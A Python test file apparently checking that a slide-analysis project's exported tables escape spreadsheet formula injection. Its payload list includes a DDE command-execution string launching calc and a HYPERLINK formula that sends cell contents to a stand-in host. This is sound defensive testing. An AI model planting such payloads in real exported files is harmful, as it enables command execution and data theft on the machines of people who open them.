"""Sixty payloads in cells of every table that is made: none is a formula, none breaks a row."""

import csv
from itertools import product

import numpy as np
from slideunet import slide_failures
from slideunet.cells import cell
from slideunet.manifest import sealed
from slideunet.object_table import write_table
from slideunet.stages.summary import summary
from test_object_table import COLUMNS, batches

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\t+", "  @")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x/?"&A1,"see")',
    "SUM(1)\t=2",
    "a\nb\r\n=c",
    '"quoted"\t',
)
PAYLOADS = [start + body for start, body in product(STARTS, BODIES)]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def formulas(path, delimiter: str = "\t") -> list[str]:
    """Cells that a spreadsheet would take for a formula; all rows must be as long as the first."""
    with open(path, newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file, delimiter=delimiter))
    assert len({len(row) for row in rows}) == 1
    return [
        text
        for row in rows
        for text in row
        if text.lstrip("\ufeff").startswith(("=", "+", "-", "@", "\t", "\r"))
        and not is_number(text)
    ]


def test_sixty_of_them():
    assert len(set(PAYLOADS)) == 60
    assert formulas_of_plain_text() == 60


def formulas_of_plain_text() -> int:
    """What the payloads are without the rule: the check above must find them all."""
    return sum(" ".join(p.split()).startswith(("=", "+", "-", "@")) for p in PAYLOADS)


def test_numbers_stay_numbers():
    assert [cell(v) for v in (-1.5, -3, 0.1 + 0.2, None, "a")] == ["-1.5", -3, "0.3", None, "a"]


def test_tables_of_slides(tmp_path):
    """As reasons, readers, class names; a slide's id has a checked pattern."""
    slides = [f"s{number}" for number in range(len(PAYLOADS))]
    for slide, payload in zip(slides, PAYLOADS, strict=True):
        folder = tmp_path / "slides" / slide
        folder.mkdir(parents=True)
        for stage in slide_failures.STAGES[:4]:
            facts = {"reader": payload, "summary": {"objects": -1, f"fraction_{payload}": 0.5}}
            made = {"kind": stage, "status": "done", "files": [], "facts": facts}
            if stage == "overlay":
                made |= {"status": "failed", "failure": {"stage": stage, "reason": payload}}
            (folder / f"{stage}.json").write_bytes(sealed(made))
    refused = [{"slide": "line-2", "stage": "table", "reason": payload} for payload in PAYLOADS]
    slide_failures.write_tables(str(tmp_path), slides, refused)
    for name in ("archive.tsv", "failures.tsv", "timing.tsv"):
        assert formulas(tmp_path / name) == []
    text = (tmp_path / "failures.tsv").read_text()
    assert text.count("\n") == 1 + 2 * len(PAYLOADS)
    assert text.count("'=") + text.count("'+") + text.count("'-") + text.count("'@") >= 120


def test_tables_of_models(tmp_path):
    """As names of groups and of classes."""
    evaluations, groups = [], {}
    for number, payload in enumerate(PAYLOADS):
        path = tmp_path / f"m{number}.json"
        pooled = {"iou": {payload: -0.5}, payload: 1.0}
        facts = {"averaging": {"none": {"pooled": pooled, "images": {}}}}
        path.write_bytes(
            sealed({"kind": "evaluate", "status": "done", "files": [], "facts": facts})
        )
        evaluations.append(str(path))
        groups[path.stem] = payload
    table, together = tmp_path / "summary.tsv", tmp_path / "groups.tsv"
    summary(evaluations=evaluations, table=str(table), groups_table=str(together), groups=groups)
    assert formulas(table) == formulas(together) == []


def test_tables_of_objects(tmp_path):
    """As names of classes; a line end in a cell is quoted, and stays in it."""
    texts = [column.name for column in COLUMNS if column.kind == "string"]
    plain = [p for p in PAYLOADS if "\n" not in p and "\r" not in p]

    def hostile(values: np.ndarray) -> np.ndarray:
        return np.array([plain[n % len(plain)] for n in range(len(values))], object)

    changed = [
        {name: hostile(values) if name in texts else values for name, values in batch.items()}
        for batch in batches(2048)
    ]
    assert sum(len(batch["id"]) for batch in changed) > 10
    write_table(changed, COLUMNS, tmp_path / "o.parquet", csv=tmp_path / "o.csv")
    assert formulas(tmp_path / "o.csv", ",") == []
